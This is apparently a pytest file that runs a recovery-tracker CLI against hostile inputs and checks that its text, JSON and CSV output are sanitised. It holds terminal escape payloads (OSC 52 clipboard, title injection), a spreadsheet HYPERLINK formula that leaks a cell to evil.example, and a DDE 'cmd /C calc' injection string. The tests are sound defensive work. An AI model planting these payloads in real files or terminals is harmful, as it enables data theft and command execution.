"""The hostile-input table through every command-line path, run for real (subprocess).

Plans, the session log, later notes and an unfinished session all carry every evil
string; each command's stdout and stderr must be free of control characters and bidi
overrides, show markup literally, and the CSV must be safe to open in a spreadsheet.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from cli_helpers import cli, log_file, skip_near_midnight
from hostile_strings import EVIL, assert_safe, assert_shown_safely, evil_plan

from recovery_tui.core.journal import SessionLog
from recovery_tui.core.journal.record import ExerciseResult, SessionRecord
from recovery_tui.core.safe_text import clean, clean_line

NOW = datetime.now(UTC).replace(microsecond=0)
BROKEN = "[red]broken [@click=app.quit]x\x1b]0;T\x07"
"""A broken plan file's name: quoted by every message about it."""


def plans_dir(tmp_path: Path) -> Path:
    return tmp_path / "xdg-config" / "recovery-tui" / "plans"


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One set of files with every evil string, shared by the (read-only) commands."""
    root = tmp_path_factory.mktemp("hostile")
    folder = plans_dir(root)
    folder.mkdir(parents=True)
    for key, evil in EVIL.items():
        (folder / f"{key}.toml").write_text(evil_plan(key, evil), encoding="utf-8")
    bad = 'name = "x"\nid = "bad"\n[[exercise]]\nname = "y"\ndose = "reps"\n'
    bad += 'reps = "[/] \\u001b]52;c;eA==\\u0007"\n'
    (folder / f"{BROKEN}.toml").write_text(bad, encoding="utf-8")
    log = log_file(root)
    for index, (key, evil) in enumerate(EVIL.items()):
        SessionLog(log).append(evil_record(key, evil, index))
    return root


def evil_record(key: str, evil: str, index: int) -> SessionRecord:
    started = NOW - timedelta(minutes=10 * (index + 1))
    return SessionRecord(
        id=f"{key}-{index}",
        plan=evil,
        plan_name=evil,
        started=started,
        ended=started + timedelta(minutes=3),
        status="completed",
        rounds=[[ExerciseResult(evil, "reps", {"both": 2})]],
        note=evil,
    )


def run(home: Path, *args: str) -> tuple[str, str]:
    result = cli(home, *args)
    assert_safe(result.stdout, f"stdout of {args}")
    assert_safe(result.stderr, f"stderr of {args}")
    return result.stdout, result.stderr


def test_plans_lists_each_name_literally_and_the_broken_file_plainly(home: Path) -> None:
    out, err = run(home, "plans")
    for key, evil in EVIL.items():
        assert_shown_safely(out, evil, f"plans, {key}")
    assert clean_line(BROKEN) in err and "[/]" in err


@pytest.mark.parametrize("key", list(EVIL))
def test_plans_show_and_check_quote_each_string_literally(home: Path, key: str) -> None:
    out, _ = run(home, "plans", "show", key)
    assert_shown_safely(out, EVIL[key], f"plans show {key}")
    out, _ = run(home, "plans", "check", str(plans_dir(home) / f"{key}.toml"))
    assert f"ok: '{key}'" in out


def test_plans_check_of_a_broken_file_is_a_plain_message(home: Path) -> None:
    result = cli(home, "plans", "check", str(plans_dir(home) / f"{BROKEN}.toml"))
    assert result.returncode == 1
    assert_safe(result.stderr, "plans check")
    assert clean_line(BROKEN) in result.stderr and "[/]" in result.stderr


def test_history_table_names_each_plan_literally(home: Path) -> None:
    out, _ = run(home, "history")
    for key, evil in EVIL.items():
        assert clean_line(evil)[:28].rstrip() in out, key


def test_history_json_holds_each_string_cleaned(home: Path) -> None:
    out, _ = run(home, "history", "--json")
    data = json.loads(out)
    by_id = {record["id"]: record for record in data}
    for index, (key, evil) in enumerate(EVIL.items()):
        record = by_id[f"{key}-{index}"]
        assert record["note"] == clean(evil) and record["plan_name"] == clean_line(evil)
        assert_safe(json.dumps(record, ensure_ascii=False), f"json of {key}")


def test_history_csv_is_spreadsheet_safe(home: Path) -> None:
    out, _ = run(home, "history", "--csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == len(EVIL)
    for row in rows:
        for column, cell in row.items():
            assert_safe(cell, f"csv {column}")
            assert not cell.lstrip().startswith(("=", "+", "@")), (column, cell)
    by_id = {row["session_id"]: row for row in rows}
    markup = by_id["markup-0"]
    assert markup["note"] == markup["exercise"] == EVIL["markup"]


def test_history_csv_quotes_formulas_from_the_log(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    record = evil_record("f", formula, 0)
    record.note = "@SUM(1+1)*cmd|' /C calc'!A0"
    SessionLog(log_file(tmp_path)).append(record)
    out, _ = run(tmp_path, "history", "--csv")
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert (row["plan"], row["exercise"]) == ("'" + formula, "'" + formula)
    assert row["note"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_status_and_report_show_log_text_plainly(home: Path) -> None:
    skip_near_midnight()
    out, _ = run(home, "status")
    last = (NOW - timedelta(minutes=10)).astimezone()
    # The newest session was logged ten minutes before the module was imported: just
    # after midnight that is yesterday, and status says so.
    day = "today" if last.date() == datetime.now().astimezone().date() else "yesterday"
    assert f"last: {day} {last:%H:%M}, {EVIL['markup']}" in out
    out, _ = run(home, "status", "--json")
    facts: Any = json.loads(out)
    assert_safe(json.dumps(facts, ensure_ascii=False), "status --json")
    run(home, "report")


def test_status_names_a_hostile_unfinished_session_plainly(tmp_path: Path) -> None:
    folder = tmp_path / "xdg-data" / "recovery-tui" / "unfinished"
    folder.mkdir(parents=True)
    state = {"version": 1, "plan": "x", "plan_name": EVIL["osc52-clipboard"], "round": 0}
    (folder / "s1.json").write_text(json.dumps(state), encoding="utf-8")
    out, _ = run(tmp_path, "status")
    assert f"Unfinished session: {clean_line(EVIL['osc52-clipboard'])}" in out


def test_a_hostile_settings_file_is_reported_plainly(tmp_path: Path) -> None:
    config = tmp_path / "xdg-config" / "recovery-tui" / "settings.toml"
    config.parent.mkdir(parents=True)
    config.write_text(
        'theme = "\\u001b]0;T\\u0007"\npacing = "[/] \\u202e"\n"\\u001b[2J" = 1\n', encoding="utf-8"
    )
    _, err = run(tmp_path, "status")
    assert "theme" in err and "pacing" in err and "[/]" in err


@pytest.mark.parametrize("key", ["markup", "click-screenshot", "broken-markup"])
def test_status_quotes_an_unknown_hostile_theme_as_data(tmp_path: Path, key: str) -> None:
    """Markup passes the settings file's check of a name (control codes, bidi and
    zero-width characters do not: the test above); status says it is no theme, as data."""
    config = tmp_path / "xdg-config" / "recovery-tui" / "settings.toml"
    config.parent.mkdir(parents=True)
    config.write_text(f"theme = {json.dumps(EVIL[key])}\n", encoding="utf-8")
    _, err = run(tmp_path, "status")
    assert "'theme' must be one of: ansi-dark, " in err
    assert f"got {EVIL[key]!r}" in err, "literally, as repr quotes it (no markup read)"


def test_argparse_errors_quote_what_was_typed_plainly(tmp_path: Path) -> None:
    result = cli(tmp_path, "history", "--days", "\x1b]0;T\x07")
    assert result.returncode == 2
    assert_safe(result.stderr, "argparse error")
    result = cli(tmp_path, "\x1b]52;c;eA==\x07")
    assert result.returncode == 2 and "]52;c;eA==" in result.stderr
    assert_safe(result.stderr, "argparse error")
